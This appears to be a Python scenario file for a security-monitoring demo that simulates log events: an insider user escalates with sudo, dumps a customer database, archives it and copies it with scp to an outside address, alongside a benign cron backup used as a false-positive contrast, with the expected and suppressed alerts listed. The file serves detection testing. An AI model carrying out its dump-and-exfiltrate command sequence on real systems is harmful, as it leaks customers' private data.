"""Somebody inside takes customer data with him; and the nightly backup."""

from __future__ import annotations

from socterm.demo.cast import BOB, BORG, DANA, DB, WEB
from socterm.demo.model import Chapter, Expected, Quiet, Story
from socterm.demo.noise import INTERNET, WORKING
from socterm.demo.pen import AUTH, Pen, penned

TTY = "pts/1"
OUTSIDE = "203.0.113.80"


def _login(pen: Pen) -> None:
    login = pen.login(120.0, pen.connect(DB, BOB.address), BOB, method="password")
    pen.logout(860.0, login)


def _privilege(pen: Pen) -> None:
    pen.sudo(210.0, DB, BOB, "/usr/bin/ls -la /srv/backup", tty=TTY)
    pen.sudo(260.0, DB, BOB, "/usr/bin/less /etc/postgresql/15/main/pg_hba.conf", tty=TTY, lasts=30.0)


def _download(pen: Pen) -> None:
    pen.sudo(420.0, DB, BOB, "/usr/bin/pg_dump -Fc -f /tmp/c.dump customers", tty=TTY, lasts=41.0)
    pen.sudo(
        500.0, DB, BOB, "/usr/bin/tar czf /tmp/c.tgz /tmp/c.dump /srv/backup/contracts", tty=TTY, lasts=12.0
    )
    pen.sudo(540.0, DB, BOB, f"/usr/bin/scp -q /tmp/c.tgz bob@{OUTSIDE}:", tty=TTY, lasts=64.0)
    pen.sudo(640.0, DB, BOB, "/usr/bin/rm /tmp/c.tgz /tmp/c.dump", tty=TTY)


def _backup(pen: Pen) -> None:
    pen.cron(300.2, WEB, BORG, "/usr/local/bin/nightly-backup", lasts=230.0)
    pen.sudo(301.0, WEB, BORG, "/usr/bin/tar czf /var/backups/srv.tgz /srv/www /etc", tty="", lasts=88.0)
    pen.sudo(
        391.0,
        WEB,
        BORG,
        f"/usr/bin/rsync -a /var/backups/ borg@{DB.address}:/srv/backup/web01/",
        tty="",
        lasts=90.0,
    )
    login = pen.login(391.4, pen.connect(DB, WEB.address), BORG)
    pen.logout(480.0, login)


STORIES = (
    Story(
        name="insider_download",
        says="bob becomes root on the database host, dumps the customers and sends them away",
        logs=(AUTH,),
        length=1200.0,
        chapters=(
            Chapter("login", "bob logs in from his desk as every day", penned(_login)),
            Chapter("privilege", "he uses sudo to look where he never looks", penned(_privilege)),
            Chapter(
                "download",
                "the customers are dumped, packed and sent to an address outside",
                penned(_download),
            ),
        ),
        noise=(WORKING, INTERNET),
        alerts=(
            Expected(
                "root_then_data", {"user.name": BOB.name, "host.hostname": DB.name}, ("privilege", "download")
            ),
            Expected(
                "data_sent_out", {"host.hostname": DB.name}, ("download",), superseded_by="root_then_data"
            ),
        ),
        quiet=(
            Quiet("root_then_data", {"user.name": DANA.name}, "root commands, but nothing packed or sent"),
            Quiet("root_after_external_login", {"user.name": BOB.name}, "his desk is inside"),
        ),
    ),
    Story(
        name="backup_job",
        says="the backup, by cron under an account of its own: sudo, tar, rsync to the other host",
        logs=(AUTH,),
        length=1200.0,
        chapters=(
            Chapter(
                "backup",
                "cron runs it as borg: sudo without a terminal, tar, rsync to the other host inside",
                penned(_backup),
            ),
        ),
        noise=(WORKING, INTERNET),
        quiet=(
            Quiet(
                "root_then_data",
                {"user.name": BORG.name},
                "a job of cron, without terminal, between our own hosts",
            ),
            Quiet("root_then_data_as_root", {"host.hostname": WEB.name}, "likewise"),
            Quiet("service_account_login", {"user.name": BORG.name}, "the account is meant to log in"),
        ),
        twin_of="insider_download",
    ),
)
